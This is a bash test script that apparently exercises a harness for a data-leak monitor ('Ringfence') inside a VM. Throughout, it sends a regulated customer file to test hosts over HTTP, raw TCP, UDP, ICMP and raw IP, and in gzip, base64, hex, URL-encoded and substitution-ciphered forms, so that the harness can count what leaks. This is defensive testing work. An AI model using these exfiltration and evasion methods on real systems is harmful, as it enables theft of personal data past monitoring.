#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# Test the harness itself: what is sent to a host is counted there, whatever
# way it goes; what is not sent is not. Run it by
#
#	tests/vm/run --policy none --timeout 300 tests/vm/harness.sh
#
# Without Ringfence every send succeeds, the regulated file's as well.
#
# run-6.12: --policy none

passed=0 failed=0

# ok NAME COMMAND...: COMMAND succeeds.
ok()
{
	local name=$1
	shift

	if "$@"; then
		echo "ok $name"
		passed=$((passed + 1))
	else
		echo "not ok $name"
		failed=$((failed + 1))
	fi
}

# is NAME WANTED GOT: equal texts.
is()
{
	[ "$2" = "$3" ] || echo "# wanted '$2', got '$3'"
	ok "$1" [ "$2" = "$3" ]
}

regulated=/srv/customers/cn/people.csv
public=/srv/public/people.csv

# counted NAME HOST COMMAND...: COMMAND sends the regulated file to HOST with
# all its tokens, and to no other host.
counted()
{
	local name=$1 host=$2 other=de
	shift 2

	[ "$host" != de ] || other=us
	world reset
	"$@" >/dev/null
	is "$name: all tokens leaked" 64 "$(world leaked "$host")"
	is "$name: none of the public file" 0 "$(world received "$host")"
	ok "$name: packets were sent" [ "$(world sent "$host")" -gt 0 ]
	is "$name: none elsewhere" 0 "$(world leaked "$other")"
}

tcp() { curl -sS -m 5 --data-binary "@${2:-$regulated}" "http://$1/"; }
raw_tcp() { exec 3<>"/dev/tcp/$1/9000"; cat $regulated >&3; head -c 3 <&3; exec 3>&-; }

# A program in Python that sends the file; $1 is the address.
python() { /usr/bin/python3 -c "$1" "$2" $regulated; }

udp='
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect((sys.argv[1], 9000))
for line in open(sys.argv[2]):
    s.send(line.encode())
assert s.recv(10) == b"ok\n"
'
# One datagram larger than the link takes: it goes in fragments.
fragments='
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
s.sendto(open(sys.argv[2], "rb").read() * 2, (sys.argv[1], 9000))
'
icmp='
import socket, sys
six = ":" in sys.argv[1]
s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM,
                  58 if six else 1)
head = bytes([128 if six else 8, 0, 0, 0, 0, 1, 0, 1])
for line in open(sys.argv[2]):
    s.sendto(head + line.encode(), (sys.argv[1], 0))
'
raw='
import socket, sys
six = ":" in sys.argv[1]
s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_RAW, 253)
for line in open(sys.argv[2]):
    s.sendto(line.encode(), (sys.argv[1], 0))
'
bytewise='
import socket, sys
s = socket.create_connection((sys.argv[1], 9000))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for byte in open(sys.argv[2], "rb").read():
    s.send(bytes([byte]))
s.close()
'
fast_open='
import socket, sys
for turn in range(2):           # the first gets the cookie, the second uses it
    s = socket.socket()
    s.sendto(open(sys.argv[2], "rb").read(1200) if turn else b"", 0x20000000,
             (sys.argv[1], 9000))
    s.close()
'
chunked='
import http.client, sys
c = http.client.HTTPConnection(sys.argv[1])
c.request("POST", "/", (bytes([b]) for b in open(sys.argv[2], "rb").read()),
          encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
assert c.getresponse().read() == b"ok\n"
'
gzipped() { gzip -c $regulated | curl -sS -m 5 -H 'Content-Encoding: gzip' --data-binary @- "http://$1/"; }
encoded() { base64 $regulated | curl -sS -m 5 --data-binary @- "http://$1/"; }
twice() { gzip -c $regulated | base64 -w0 | tr '+/' '-_' | curl -sS -m 5 --data-binary @- "http://$1/"; }
hexed() { od -An -tx1 -v $regulated | curl -sS -m 5 --data-binary @- "http://$1/"; }
quoted() { curl -sS -m 5 --data-urlencode "x@$regulated" "http://$1/"; }
asked() { curl -sS -m 5 -g "http://$1/?$(cut -d, -f3 $regulated | tr '\n' ,)"; }

# Say one line to port 9000; prints the answer.
greet()
{
	local line

	exec 3<>"/dev/tcp/$1/9000"
	echo hello >&3
	read -r -t 5 line <&3
	exec 3>&-
	echo "$line"
}

# The host connects, the VM answers.
answering()
{
	/usr/bin/python3 -c '
import socket, sys
s = socket.create_server(("", 7000))
open("/run/harness/listening", "w")
c, _ = s.accept()
c.sendall(open(sys.argv[1], "rb").read())
c.close()
' $regulated &
	until [ -e /run/harness/listening ]; do sleep 0.05; done
	world on us sh -c 'curl -s -m 5 telnet://$HOST4:7000 </dev/null >/dev/null'
	wait $!
}

for to in 4 6; do
	us=US$to dc=DC$to
	us=${!us} dc=${!dc}
	web=$us
	[ $to = 4 ] || web="[$us]"
	counted "HTTP, IPv$to" us tcp "$web"
	counted "TCP, IPv$to" us raw_tcp "$us"
	counted "UDP, IPv$to" us python "$udp" "$us"
	counted "UDP to a whole net, IPv$to" dc python "$udp" "$dc"
	counted "UDP in fragments, IPv$to" us python "$fragments" "$us"
	counted "ICMP payload, IPv$to" us python "$icmp" "$us"
	counted "raw IP, IPv$to" us python "$raw" "$us"
done
counted "TCP, byte by byte" us python "$bytewise" "$US4"
counted "HTTP, chunked by one byte" us python "$chunked" "$US4"
counted "HTTP, gzip" us gzipped "$US4"
counted "HTTP, base64" us encoded "$US4"
counted "HTTP, gzip in base64" us twice "$US4"
counted "HTTP, hex" us hexed "$US4"
counted "HTTP, form" us quoted "$US4"
counted "HTTP, in the address" us asked "$US4"
counted "answer to a connection from there" us answering

# What crosses the wire as nothing that can be read is decoded there.
decoded()
{
	# shellcheck disable=SC2016
	world on us sh -c 'socat -u TCP4-LISTEN:7001,reuseaddr STDOUT 2>/dev/null |
		tr g-v 0-9a-f >"$FAR/x" &
		until grep -q ":1B59 " /proc/net/tcp; do sleep 0.05; done'
	tr 0-9a-f g-v <$regulated | socat -u STDIN "TCP4:$US4:7001"
}
counted "a file that a program there has written" us decoded
is "which the wire does not show" 0 "$(world leaked wire)"

world reset
python "$fast_open" "$US4"
ok "TCP Fast Open: data in the SYN" [ "$(world leaked us)" -gt 30 ]

world reset
for host in cn us de dc wire; do
	is "reset: $host has nothing leaked" 0 "$(world leaked $host)"
	is "reset: $host was sent nothing" 0 "$(world sent $host)"
done

tcp "$US4" $public >/dev/null
is "public file: received" 64 "$(world received us)"
is "public file: not counted as leaked" 0 "$(world leaked us)"
ok "public file: seen on the wire too" [ "$(world received wire)" = 64 ]

# Of a connection that spans a reset only what comes after it counts.
exec 3<>"/dev/tcp/$US4/9000"
head -n 40 $regulated >&3
is "before a reset" 40 "$(world leaked us)"
world reset
tail -n 24 $regulated >&3
is "after a reset, same connection" 24 "$(world leaked us)"
exec 3>&-

world reset
/usr/bin/python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(10):
    s.sendto(b"x", ("'"$DE4"'", 9000))
'
is "sent: one per datagram" 10 "$(world sent de)"

for host in cn us de dc; do
	upper=${host^^}4
	is "on $host" "${!upper}" "$(world on $host sh -c "echo \$$upper")"
	is "9000 answers at $host, $upper" ok "$(greet "${!upper}")"
	upper=${host^^}6
	is "9000 answers at $host, $upper" ok "$(greet "${!upper}")"
done
world on us sh -c 'echo out; echo err >&2; exit 9' >/tmp/out 2>/tmp/err
is "on: status" 9 $?
is "on: stdout" out "$(cat /tmp/out)"
is "on: stderr" err "$(cat /tmp/err)"
world on us head -c 100000 /dev/zero | cmp - <(head -c 100000 /dev/zero)
is "on: bytes as they are" 0 "${PIPESTATUS[1]}"
world on us sh -c 'sleep 30 & echo started' >/tmp/out
is "on: does not wait for what it leaves behind" started "$(cat /tmp/out)"
timeout 1 world on us sleep 60
is "on: several at once, and asked again after one was killed" again \
	"$(world on us sleep 2 & world on us echo again; wait)"
world nonsense 2>/dev/null
is "no such command" 2 $?
world leaked nowhere 2>/dev/null
is "no such host" 2 $?

message='<38>1 2026-01-01T00:00:00Z h app 1 id [ringfence@32473 a="b \"] c"] text'
/usr/bin/python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(sys.argv[1].encode(), "/dev/log")
' "$message"
is "syslog: as it was sent" "$message" "$(world syslog | tail -n 1)"

is "user: uid" 1000 "$(su user -c 'id -u')"
is "user: reads both files" 128 "$(su user -c "cat $regulated $public" | wc -l)"
is "user: asks the world" "$(world sent de)" "$(su user -c 'world sent de')"
is "user: reads the syslog" "$message" "$(su user -c 'world syslog' | grep '^<38>1')"
su user -c "curl -s -m 5 --data-binary @$regulated http://$CN4/" >/dev/null
is "syslog: what others say is not in it" 0 "$(world syslog | grep -vc ringfence@)"
is "user: sends" 64 "$(world leaked cn)"

is "the file has 64 lines" 64 "$(wc -l <$regulated)"
is "each with a token" 64 "$(grep -cE '^[0-9]+,[^,]+,[0-9a-f]{16}$' $regulated)"
is "/srv is an ext4" ext2/ext3 "$(stat -fc %T /srv)"
is "no other way out" "" "$(curl -s -m 2 http://192.0.2.1/)"
is "not from host to host" "" "$(world on cn curl -s -m 2 "http://$US4/")"
ok "modules can be loaded" modprobe sctp
ok "the kernel asked for" grep -q "^$KERNEL\." /proc/sys/kernel/osrelease

echo "$passed passed, $failed failed, 0 skipped"
[ $failed = 0 ]
